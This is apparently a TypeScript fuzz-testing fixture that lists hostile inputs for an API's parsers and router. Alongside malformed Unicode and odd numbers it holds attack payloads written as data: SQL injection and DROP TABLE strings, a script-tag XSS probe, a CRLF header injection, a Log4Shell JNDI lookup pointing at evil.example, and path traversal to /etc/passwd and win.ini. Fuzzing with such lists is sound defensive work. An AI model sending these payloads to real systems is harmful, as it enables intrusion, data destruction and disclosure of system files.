/** The values fuzz cases put where a valid one was: what an attacker or a broken client sends. */

export const hugeString = 'x'.repeat(100_000);

/** Strings that have broken parsers, databases, logs and PDFs before. */
export const hostileStrings: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0003\u001b[31m',
  'line\r\nX-Injected: 1',
  '\u202egpj.exe',
  '\ud800',
  '\udfff\ud800',
  '😀'.repeat(40),
  'e\u0301\u0301\u0301\u0301',
  'İıŞşƏəĞğÇçÖöÜü',
  'ﷺ﷽',
  '\ufeffBOM',
  "' OR '1'='1' --",
  '"; DROP TABLE customers; --',
  '<script>alert(1)</script>',
  // Log4Shell's lookup, written so it is not a template: the text itself is what is sent.
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '{{7*7}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00%2e%2e%2f',
  'NaN',
  '-1',
  '1e309',
  '00000000-0000-0000-0000-000000000000',
  '__proto__',
  'constructor',
];

/** Numbers the schema's bounds may not foresee. */
export const hostileNumbers: readonly number[] = [
  -1,
  0,
  -0.000001,
  1.005,
  0.1 + 0.2,
  1e-7,
  2 ** 31,
  2 ** 53 + 2,
  1e21,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
];

/** Tokens for a number's place in JSON text: invalid JSON, or ±Infinity once parsed. */
export const hostileNumberTokens: readonly string[] = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-1e999',
  '0x10',
  '01',
  '1.',
  '99999999999999999999999999999999',
];

/** Numbers as a query or header carries them. */
export const hostileNumberTexts: readonly string[] = [
  '-1',
  '0',
  '1.5',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '99999999999999999999',
  '0x10',
  '',
];

/** Query and header values: a parameter is always a string, so these break it by content. */
export const hostileParameterValues: readonly string[] = [
  ...hostileStrings.filter((value) => !/[\r\n]/.test(value)),
  'true',
  '[]',
  '{}',
  '1.5',
  '-0',
  'Infinity',
  '99999999999999999999',
  '2026-02-30',
  '0000-00-00',
  '275760-09-14',
  '+002026-03-02',
];

/** Path ids: traversal, encodings the router must refuse, overlong and odd characters. */
export const hostilePathValues: readonly string[] = [
  '..',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..%5C..%5Cwindows',
  '%252e%252e%252f',
  '%00',
  '%E0%A4%A',
  '%',
  '%F0%9F%98%80',
  '%C0%AE%C0%AE%2F',
  "'%20OR%201=1--",
  'a'.repeat(65),
  'a'.repeat(10_000),
  '-',
  '_',
  '00000000-0000-0000-0000-000000000000',
  'NaN',
  '%20',
  '.',
  '~',
];

/** A value short enough to name a case by. */
export function excerpt(value: string): string {
  const shown = JSON.stringify(value);
  return shown.length > 40 ? `${shown.slice(0, 30)}… (${value.length} chars)` : shown;
}
